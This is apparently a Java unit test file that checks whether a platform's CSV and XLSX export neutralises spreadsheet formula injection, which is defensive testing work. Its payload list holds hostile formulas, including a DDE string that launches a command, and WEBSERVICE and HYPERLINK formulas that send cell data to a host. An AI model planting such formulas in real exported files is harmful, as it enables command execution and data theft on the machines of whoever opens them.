package org.heyi.platform.sheet.write;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;
import java.util.regex.Pattern;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.heyi.Satisfies;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// What people type never becomes a formula in what is taken out of Heyi (OWASP ASVS 5.0, 1.2.10).
class HarmlessTests {

  private static final List<String> BEGINNINGS =
      List.of(
          "=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "\t=", " =", "\u3000=",
          "\u00A0+", "\uFEFF=", "\u200B@", "\"=", "'=", "x,=", "x;-", "x\t@", "x\r\n=", "x\n＋");
  private static final List<String> FORMULAS =
      List.of(
          "1+1",
          "cmd|' /C calc'!A0",
          "HYPERLINK(\"http://x/\",\"y\")",
          "SUM(1,1)*2",
          "1",
          "",
          "WEBSERVICE(\"http://x/\"&A1)",
          "DDE(\"x\";\"y\")");

  /// Cells as programs see them that heed no quotes.
  private static final Pattern PIECES = Pattern.compile("[,;\\t\\r\\n]");

  private static final Pattern FORMULA =
      Pattern.compile("^[\\p{Z}\\p{Cc}\\p{Cf}\"]*[=+\\-@＝＋－＠].*");

  static List<String> hostile(long seed) {
    var random = new SplittableRandom(seed);
    var values = new ArrayList<String>();
    for (var beginning : BEGINNINGS) {
      FORMULAS.forEach(it -> values.add(beginning + it));
    }
    for (int i = 0; i < 2_000; i++) {
      var value = new StringBuilder();
      for (int length = random.nextInt(1, 12); length > 0; length--) {
        value.append("=+-@＝＋－＠\t\r\n ,;'\"a1\u3000\u200B".charAt(random.nextInt(20)));
      }
      values.add(value.toString());
    }
    return values;
  }

  @ParameterizedTest
  @ValueSource(longs = {1, 2, 3})
  @Satisfies("PLT-08")
  void noCellOfACsvIsAFormulaToAnyProgram(long seed) {
    var values = hostile(seed);
    int formulas = 0;
    for (var value : values) {
      var csv = new CsvText();
      csv.line(List.of("plain", value, "last"));
      var text = new String(csv.bytes(), StandardCharsets.UTF_8);
      for (var piece : PIECES.split(text.replace("\uFEFF", ""), -1)) {
        formulas += FORMULA.matcher(piece).matches() ? 1 : 0;
      }
      formulas += Harmless.text(value).matches("(?s)^[\\t\\r\\n].*") ? 1 : 0;
    }
    System.out.printf(
        "formula injection, csv, seed %d: %d hostile values, formula cells %d%n",
        seed, values.size(), formulas);
    assertThat(formulas).isZero();
  }

  @Test
  @Satisfies("PLT-08")
  void noCellOfAWorkbookIsAFormula() throws IOException {
    var values = hostile(4);
    byte[] content;
    try (var book = new Book()) {
      var leaf = book.leaf("a");
      values.forEach(it -> leaf.row(List.of(it), Book.Look.PLAIN));
      content = book.bytes();
    }
    int formulas = 0;
    int other = 0;
    try (var read = new XSSFWorkbook(new ByteArrayInputStream(content))) {
      for (int i = 0; i < values.size(); i++) {
        var cell = read.getSheetAt(0).getRow(i).getCell(0);
        formulas += cell.getCellType() == CellType.FORMULA ? 1 : 0;
        boolean text =
            cell.getCellType() == CellType.STRING
                && cell.getCellStyle().getDataFormatString().equals("@");
        other += text ? 0 : 1;
      }
    }
    System.out.printf(
        "formula injection, xlsx: %d hostile values, formula cells %d, not text %d%n",
        values.size(), formulas, other);
    assertThat(formulas).isZero();
    assertThat(other).isZero();
  }

  /// Without it, the check would find formulas: it is no empty check.
  @Test
  void aFormulaThatIsNotMadeHarmlessWouldBeSeen() {
    assertThat(hostile(1).stream().filter(it -> FORMULA.matcher(it).matches()).count())
        .isGreaterThan(500);
  }

  @ParameterizedTest
  @ValueSource(strings = {"张三", "幸福路 1-2 号", "a=b", "13800000000", "2026-01-02", "李 + 王", ""})
  void whatIsNoFormulaStaysAsItIs(String value) {
    assertThat(Harmless.text(value)).isEqualTo(value);
  }
}
